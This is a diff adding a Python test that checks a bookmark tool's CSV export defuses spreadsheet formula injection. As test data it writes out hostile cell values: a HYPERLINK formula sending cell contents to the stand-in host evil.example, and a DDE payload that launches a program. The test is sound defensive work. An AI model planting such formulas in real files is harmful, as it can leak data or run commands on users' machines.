@@ -677,3 +677,31 @@ def test_progress_bar_on_a_terminal_and_quiet_when_piped(db_path: Path, tmp_path
     text = seen.decode("utf-8", "replace")
     assert "Importing" in text and "100%" in text
     assert "12000 new links" in text
+
+
+def test_csv_export_guards_spreadsheet_formulas(db_path: Path, tmp_path: Path) -> None:
+    """Titles, tags and notes from an imported file are the user's data, but a spreadsheet
+    opening the export must show them as text, not run them."""
+    hostile = [
+        {
+            "url": "https://formula.example/a",
+            "title": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+            "tags": ["@tag"],
+            "note": "+cmd|' /C calc'!A0",
+            "saved_at": "2024-05-01T00:00:00Z",
+            "state": "unread",
+        },
+        {"url": "https://formula.example/b", "title": "-1+1", "note": "\t=1", "state": "read"},
+        {"url": "https://formula.example/c", "title": "Plain = fine", "state": "read"},
+    ]
+    run("import", str(write(tmp_path / "hostile.json", json.dumps(hostile))))
+    out = tmp_path / "out.csv"
+    run("export", "--format", "csv", "--output", str(out))
+    table = {r["url"]: r for r in csv.DictReader(io.StringIO(out.read_text(), newline=""))}
+    a, b, c = (table[f"https://formula.example/{x}"] for x in "abc")
+    assert a["title"] == "'" + hostile[0]["title"]
+    assert a["tags"] == "'@tag" and a["note"] == "'+cmd|' /C calc'!A0"
+    assert b["title"] == "'-1+1" and b["note"] == "'=1"  # a leading tab is trimmed on import
+    assert c["title"] == "Plain = fine"
+    cells = [cell for row in table.values() for cell in row.values()]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
